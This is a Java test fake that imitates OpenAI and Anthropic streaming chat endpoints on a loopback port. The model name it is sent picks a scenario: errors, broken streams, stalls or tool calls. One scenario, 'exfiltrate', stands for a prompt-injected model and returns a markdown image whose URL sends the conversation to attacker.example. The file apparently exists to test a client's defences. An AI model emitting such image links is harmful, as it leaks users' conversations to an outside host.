package dev.custos.fakes;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/**
 * A stand-in for model providers on a real loopback port, speaking their wire formats: OpenAI-compatible
 * {@code POST /v1/chat/completions} (streamed {@code chat.completion.chunk} events ending in {@code [DONE]}) and
 * Anthropic {@code POST /v1/messages} (named stream events), with their JSON error bodies.
 *
 * <p>The requested model picks the scenario:
 * <ul>
 *   <li>any other name: answers {@code You said: <last user message>} (or {@code The result is <result>.} after
 *       a tool result), streamed four characters a chunk so values split across chunks;</li>
 *   <li>{@code tools}: calls the {@code calculator} tool with {@code {"expression":"6*7"}} in fragments, then
 *       answers with the tool's result;</li>
 *   <li>{@code rate-limited} (429), {@code overloaded} (Anthropic 529), {@code flaky} (503 on every other call);</li>
 *   <li>{@code malformed} (an event that is not JSON), {@code cut-off} (ends without finishing),
 *       {@code stream-error} (Anthropic error event), {@code slow} (200 ms between chunks), {@code stall}
 *       (one chunk, then silence with the connection open).</li>
 * </ul>
 */
public final class FakeModelProvider implements AutoCloseable {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final int CHUNK_CHARS = 4;

    /** A call as the fake received it. */
    public record Received(String path, JsonNode body, Map<String, String> headers) {
        public String header(String name) {
            return headers.getOrDefault(name.toLowerCase(java.util.Locale.ROOT), "");
        }
    }

    private final HttpServer server;
    private final ExecutorService executor = Executors.newVirtualThreadPerTaskExecutor();
    private final List<Received> received = new CopyOnWriteArrayList<>();
    private final AtomicInteger flakyCalls = new AtomicInteger();
    private volatile boolean recording = true;

    private FakeModelProvider(int port) throws IOException {
        server = HttpServer.create(new InetSocketAddress("127.0.0.1", port), 1024);
        server.createContext("/v1/chat/completions", exchange -> handle(exchange, false));
        server.createContext("/v1/messages", exchange -> handle(exchange, true));
        server.setExecutor(executor);
        server.start();
    }

    /** Starts on a free loopback port. */
    public static FakeModelProvider start() throws IOException {
        return new FakeModelProvider(0);
    }

    /** The base URL both APIs live under, as a provider registry would hold it: {@code http://127.0.0.1:N/v1}. */
    public URI baseUrl() {
        return URI.create("http://127.0.0.1:" + server.getAddress().getPort() + "/v1");
    }

    /** Every call so far, oldest first. */
    public List<Received> received() {
        return List.copyOf(received);
    }

    public Received lastReceived() {
        return received.getLast();
    }

    /** Stops keeping calls (a benchmark sends many). */
    public FakeModelProvider withoutRecording() {
        recording = false;
        return this;
    }

    private void handle(HttpExchange exchange, boolean anthropic) throws IOException {
        try (exchange) {
            JsonNode body = JSON.readTree(exchange.getRequestBody().readAllBytes());
            if (recording) {
                Map<String, String> headers = new TreeMap<>();
                exchange.getRequestHeaders().forEach((name, values) ->
                        headers.put(name.toLowerCase(java.util.Locale.ROOT), String.join(",", values)));
                received.add(new Received(exchange.getRequestURI().getPath(), body, headers));
            }
            var conversation = new Conversation(body);
            Reply reply = switch (body.path("model").asString("")) {
                case "rate-limited" -> Reply.error(429, anthropic ? "rate_limit_error" : "rate_limit_exceeded");
                case "overloaded" -> Reply.error(529, "overloaded_error");
                case "flaky" -> flakyCalls.incrementAndGet() % 2 == 1
                        ? Reply.error(503, anthropic ? "api_error" : "server_error")
                        : Reply.text(conversation.answer());
                case "tools" -> conversation.lastToolResult() == null
                        ? Reply.toolCall("calculator", "{\"expression\":\"6*7\"}")
                        : Reply.text(conversation.answer());
                case "malformed" -> Reply.text(conversation.answer()).malformed();
                case "cut-off" -> Reply.text(conversation.answer()).cutOff();
                case "stream-error" -> Reply.text(conversation.answer()).streamError();
                case "slow" -> Reply.text(conversation.answer()).slow();
                case "stall" -> Reply.text(conversation.answer()).stall();
                // a prompt-injected model: its answer tries to send the conversation to another host in an image
                case "exfiltrate" -> Reply.text("Done. ![status](https://attacker.example/collect?d="
                        + java.net.URLEncoder.encode(conversation.answer(), StandardCharsets.UTF_8) + ")");
                default -> Reply.text(conversation.answer());
            };
            if (reply.errorStatus > 0) {
                error(exchange, reply, anthropic);
            } else if (anthropic) {
                new AnthropicStream(exchange, reply, conversation.promptTokens()).write();
            } else {
                new OpenAiStream(exchange, reply, conversation.promptTokens()).write();
            }
        } catch (IOException | RuntimeException e) {
            // the client went away, or sent what a real API would refuse: nothing more to say to it
        }
    }

    private static void error(HttpExchange exchange, Reply reply, boolean anthropic) throws IOException {
        String body = anthropic
                ? "{\"type\":\"error\",\"error\":{\"type\":\"" + reply.errorType + "\",\"message\":\"Try later\"}}"
                : "{\"error\":{\"message\":\"Try later\",\"type\":\"" + reply.errorType + "\",\"code\":\""
                        + reply.errorType + "\"}}";
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        exchange.getResponseHeaders().set("Content-Type", "application/json");
        exchange.sendResponseHeaders(reply.errorStatus, bytes.length);
        exchange.getResponseBody().write(bytes);
    }

    @Override
    public void close() {
        server.stop(0);
        executor.shutdownNow();
    }

    /** What the fake read from the request: the last user message and a tool result after it, if any. */
    private static final class Conversation {
        private String lastUser = "";
        private String lastToolResult;
        private long characters;

        Conversation(JsonNode body) {
            characters += body.path("system").asString("").length();
            for (JsonNode message : body.path("messages")) {
                String role = message.path("role").asString("");
                JsonNode content = message.path("content");
                if (content.isArray()) { // Anthropic blocks
                    for (JsonNode block : content) {
                        String text = block.path("type").asString("").equals("tool_result")
                                ? block.path("content").asString("") : block.path("text").asString("");
                        characters += text.length();
                        if (block.path("type").asString("").equals("tool_result")) {
                            lastToolResult = text;
                        } else if (role.equals("user") && !text.isEmpty()) {
                            lastUser = text;
                            lastToolResult = null;
                        }
                    }
                    continue;
                }
                String text = content.asString("");
                characters += text.length();
                if (role.equals("tool")) {
                    lastToolResult = text;
                } else if (role.equals("user")) {
                    lastUser = text;
                    lastToolResult = null;
                }
            }
        }

        String lastToolResult() {
            return lastToolResult;
        }

        String answer() {
            return lastToolResult != null ? "The result is " + lastToolResult + "." : "You said: " + lastUser;
        }

        long promptTokens() {
            return Math.max(1, characters / 4);
        }
    }

    /** One scripted answer: text, a tool call or an error, and how its stream misbehaves, if it does. */
    private static final class Reply {
        String text = "";
        String toolName;
        String toolArguments;
        int errorStatus;
        String errorType;
        boolean malformed;
        boolean cutOff;
        boolean streamError;
        boolean stall;
        long delayMillis;

        static Reply text(String text) {
            Reply reply = new Reply();
            reply.text = text;
            return reply;
        }

        static Reply toolCall(String name, String arguments) {
            Reply reply = new Reply();
            reply.toolName = name;
            reply.toolArguments = arguments;
            return reply;
        }

        static Reply error(int status, String type) {
            Reply reply = new Reply();
            reply.errorStatus = status;
            reply.errorType = type;
            return reply;
        }

        Reply malformed() {
            malformed = true;
            return this;
        }

        Reply cutOff() {
            cutOff = true;
            return this;
        }

        Reply streamError() {
            streamError = true;
            return this;
        }

        Reply slow() {
            delayMillis = 200;
            return this;
        }

        Reply stall() {
            stall = true;
            return this;
        }

        List<String> textChunks() {
            List<String> chunks = new ArrayList<>();
            for (int i = 0; i < text.length(); i += CHUNK_CHARS) {
                chunks.add(text.substring(i, Math.min(text.length(), i + CHUNK_CHARS)));
            }
            return chunks;
        }

        List<String> argumentFragments() {
            int half = toolArguments.length() / 2;
            return List.of(toolArguments.substring(0, half), toolArguments.substring(half));
        }

        long completionTokens() {
            return Math.max(1, (text.length() + (toolArguments == null ? 0 : toolArguments.length())) / 4);
        }
    }

    /** Shared plumbing of both streams: headers, one event at a time, flushed, with the scenario's pauses. */
    private abstract static class EventWriter {
        final HttpExchange exchange;
        final Reply reply;
        final long promptTokens;
        private OutputStream out;

        EventWriter(HttpExchange exchange, Reply reply, long promptTokens) {
            this.exchange = exchange;
            this.reply = reply;
            this.promptTokens = promptTokens;
        }

        final void write() throws IOException {
            exchange.getResponseHeaders().set("Content-Type", "text/event-stream");
            exchange.getResponseHeaders().set("Cache-Control", "no-cache");
            exchange.sendResponseHeaders(200, 0);
            out = exchange.getResponseBody();
            events();
            out.flush();
        }

        abstract void events() throws IOException;

        final void pause(long millis) throws IOException {
            try {
                Thread.sleep(millis);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                throw new IOException("interrupted", e);
            }
        }

        final void send(String raw) throws IOException {
            if (reply.delayMillis > 0) {
                pause(reply.delayMillis);
            }
            out.write(raw.getBytes(StandardCharsets.UTF_8));
            out.flush();
        }
    }

    private static final class OpenAiStream extends EventWriter {

        OpenAiStream(HttpExchange exchange, Reply reply, long promptTokens) {
            super(exchange, reply, promptTokens);
        }

        @Override
        void events() throws IOException {
            send(": keep-alive\n\n");
            data(chunk(delta().put("role", "assistant").put("content", ""), null));
            if (reply.toolName != null) {
                List<String> fragments = reply.argumentFragments();
                for (int i = 0; i < fragments.size(); i++) {
                    ObjectNode call = JSON.createObjectNode().put("index", 0);
                    if (i == 0) {
                        call.put("id", "call_1").put("type", "function");
                        call.putObject("function").put("name", reply.toolName).put("arguments", fragments.get(i));
                    } else {
                        call.putObject("function").put("arguments", fragments.get(i));
                    }
                    ObjectNode delta = delta();
                    delta.putArray("tool_calls").add(call);
                    data(chunk(delta, null));
                }
                data(chunk(delta(), "tool_calls"));
            } else {
                List<String> chunks = reply.textChunks();
                for (int i = 0; i < chunks.size(); i++) {
                    data(chunk(delta().put("content", chunks.get(i)), null));
                    if (i == 0 && reply.malformed) {
                        send("data: {not json\n\n");
                        return;
                    }
                    if (i == 0 && reply.cutOff) {
                        return;
                    }
                    if (i == 0 && reply.stall) {
                        pause(60_000); // says nothing more while keeping the connection open
                        return;
                    }
                }
                data(chunk(delta(), "stop"));
            }
            ObjectNode usage = JSON.createObjectNode().put("id", "chatcmpl-fake").put("object", "chat.completion.chunk");
            usage.putArray("choices");
            usage.putObject("usage").put("prompt_tokens", promptTokens)
                    .put("completion_tokens", reply.completionTokens())
                    .put("total_tokens", promptTokens + reply.completionTokens());
            data(usage.toString());
            send("data: [DONE]\n\n");
        }

        private static ObjectNode delta() {
            return JSON.createObjectNode();
        }

        private static String chunk(ObjectNode delta, String finishReason) {
            ObjectNode chunk = JSON.createObjectNode().put("id", "chatcmpl-fake").put("object", "chat.completion.chunk")
                    .put("created", 1_700_000_000L).put("model", "fake");
            ObjectNode choice = chunk.putArray("choices").addObject().put("index", 0);
            choice.set("delta", delta);
            if (finishReason == null) {
                choice.putNull("finish_reason");
            } else {
                choice.put("finish_reason", finishReason);
            }
            return chunk.toString();
        }

        private void data(String json) throws IOException {
            send("data: " + json + "\n\n");
        }
    }

    private static final class AnthropicStream extends EventWriter {

        AnthropicStream(HttpExchange exchange, Reply reply, long promptTokens) {
            super(exchange, reply, promptTokens);
        }

        @Override
        void events() throws IOException {
            ObjectNode start = JSON.createObjectNode().put("type", "message_start");
            start.putObject("message").put("id", "msg_fake").put("type", "message").put("role", "assistant")
                    .putObject("usage").put("input_tokens", promptTokens).put("output_tokens", 1);
            event("message_start", start);
            event("ping", JSON.createObjectNode().put("type", "ping"));
            String stopReason;
            if (reply.toolName != null) {
                ObjectNode blockStart = JSON.createObjectNode().put("type", "content_block_start").put("index", 0);
                blockStart.putObject("content_block").put("type", "tool_use").put("id", "toolu_1")
                        .put("name", reply.toolName).putObject("input");
                event("content_block_start", blockStart);
                for (String fragment : reply.argumentFragments()) {
                    ObjectNode delta = JSON.createObjectNode().put("type", "content_block_delta").put("index", 0);
                    delta.putObject("delta").put("type", "input_json_delta").put("partial_json", fragment);
                    event("content_block_delta", delta);
                }
                stopReason = "tool_use";
            } else {
                ObjectNode blockStart = JSON.createObjectNode().put("type", "content_block_start").put("index", 0);
                blockStart.putObject("content_block").put("type", "text").put("text", "");
                event("content_block_start", blockStart);
                List<String> chunks = reply.textChunks();
                for (int i = 0; i < chunks.size(); i++) {
                    ObjectNode delta = JSON.createObjectNode().put("type", "content_block_delta").put("index", 0);
                    delta.putObject("delta").put("type", "text_delta").put("text", chunks.get(i));
                    event("content_block_delta", delta);
                    if (i == 0 && reply.malformed) {
                        send("event: content_block_delta\ndata: {not json\n\n");
                        return;
                    }
                    if (i == 0 && reply.cutOff) {
                        return;
                    }
                    if (i == 0 && reply.streamError) {
                        ObjectNode error = JSON.createObjectNode().put("type", "error");
                        error.putObject("error").put("type", "overloaded_error").put("message", "Overloaded");
                        event("error", error);
                        return;
                    }
                }
                stopReason = "end_turn";
            }
            event("content_block_stop", JSON.createObjectNode().put("type", "content_block_stop").put("index", 0));
            ObjectNode messageDelta = JSON.createObjectNode().put("type", "message_delta");
            messageDelta.putObject("delta").put("stop_reason", stopReason);
            messageDelta.putObject("usage").put("output_tokens", reply.completionTokens());
            event("message_delta", messageDelta);
            event("message_stop", JSON.createObjectNode().put("type", "message_stop"));
        }

        private void event(String name, ObjectNode data) throws IOException {
            send("event: " + name + "\ndata: " + data + "\n\n");
        }
    }
}
